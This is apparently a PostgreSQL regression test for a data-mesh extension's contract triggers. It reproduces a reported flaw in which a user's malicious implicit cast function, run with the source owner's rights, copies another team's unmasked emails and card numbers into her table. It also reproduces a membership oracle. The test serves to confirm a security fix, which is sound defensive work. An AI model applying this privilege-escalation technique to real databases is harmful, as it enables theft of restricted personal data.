-- Issue 12, C1(c): the duplicate lookup (unique / duplicateValues rules)
-- runs as the source owner and types its parameter from the column of the
-- table the trigger fires on.  mallory attaches dmesh._contract_row to her
-- own table whose key column is her enum type with an implicit cast to
-- bigint: the lookup "s.customer_id = $1" calls her cast function as the
-- source owner, and it copies the owner's unmasked rows into her table
-- (it returns 0, which matches no row, so her insert goes through).
-- Also: reject mode on a unique key is a membership oracle (does customer
-- 1 exist in the other team's table?).
-- Fixed: the trigger refuses her table; no lookup runs; no row copied;
-- both oracle inserts fail with the same error.
\set VERBOSITY terse
CREATE ROLE atk3_team NOLOGIN;
CREATE ROLE atk3_mallory LOGIN NOINHERIT;
SELECT dmesh.create_domain('atk3', 'atk3_team') > 0 AS created;
CREATE SCHEMA atk3_src AUTHORIZATION atk3_team;
CREATE SCHEMA atk3_mallory AUTHORIZATION atk3_mallory;
SET ROLE atk3_team;
CREATE TABLE atk3_src.customers (customer_id bigint, email text, card text);
INSERT INTO atk3_src.customers VALUES (1, 'ann@corp.example', '4111111111111111'),
                                      (2, 'ben@corp.example', '5500000000000004');
SELECT dmesh.create_data_product('atk3', 'atk3_customers', 'atk3_src.customers', contract => $y$
apiVersion: v3.1.0
kind: DataContract
id: atk3-customers
version: 1.0.0
status: active
schema:
  - name: customers
    properties:
      - {name: customer_id, logicalType: integer, required: true, unique: true}
      - {name: email, logicalType: string, classification: pii}
      - {name: card, logicalType: string, classification: restricted}
$y$) AS pid \gset
SELECT count(*) > 0 AS enforced FROM dmesh.enforce_contract('atk3.atk3_customers', 'reject');
RESET ROLE;

SET ROLE atk3_mallory;
CREATE TABLE atk3_mallory.loot (email text, card text);
GRANT USAGE ON SCHEMA atk3_mallory TO PUBLIC;
GRANT INSERT ON atk3_mallory.loot TO PUBLIC;
CREATE TYPE atk3_mallory.k AS ENUM ('1');
CREATE FUNCTION atk3_mallory.k_int8(atk3_mallory.k) RETURNS bigint LANGUAGE plpgsql AS $$BEGIN
  BEGIN
    INSERT INTO atk3_mallory.loot SELECT email, card FROM atk3_src.customers;
  EXCEPTION WHEN others THEN NULL;
  END;
  RETURN 0; END$$;
CREATE CAST (atk3_mallory.k AS bigint) WITH FUNCTION atk3_mallory.k_int8(atk3_mallory.k) AS IMPLICIT;
CREATE TABLE atk3_mallory.t (customer_id atk3_mallory.k, email text, card text);
CREATE TRIGGER x BEFORE INSERT ON atk3_mallory.t FOR EACH ROW
  EXECUTE FUNCTION dmesh._contract_row(:'pid', 'reject');
INSERT INTO atk3_mallory.t VALUES ('1', null, null);
-- Harm: the owner's unmasked rows are in mallory's table (2 rows with
-- clear e-mails and card numbers; must be 0).
SELECT count(DISTINCT email) AS rows_stolen,
       count(DISTINCT card) FILTER (WHERE card ~ '^[0-9]{16}$') AS clear_cards
  FROM atk3_mallory.loot;

-- The membership oracle: with a plain bigint key, reject mode tells her
-- whether a customer id exists in the other team's table.
CREATE TABLE atk3_mallory.probe (customer_id bigint, email text, card text);
CREATE TRIGGER x BEFORE INSERT ON atk3_mallory.probe FOR EACH ROW
  EXECUTE FUNCTION dmesh._contract_row(:'pid', 'reject');
INSERT INTO atk3_mallory.probe VALUES (2, null, null);
INSERT INTO atk3_mallory.probe VALUES (3, null, null);
-- Harm: the insert of a non-existing id went through (1; must be 0, the
-- trigger refusing both alike).
SELECT count(*) AS probes_accepted FROM atk3_mallory.probe;
RESET ROLE;
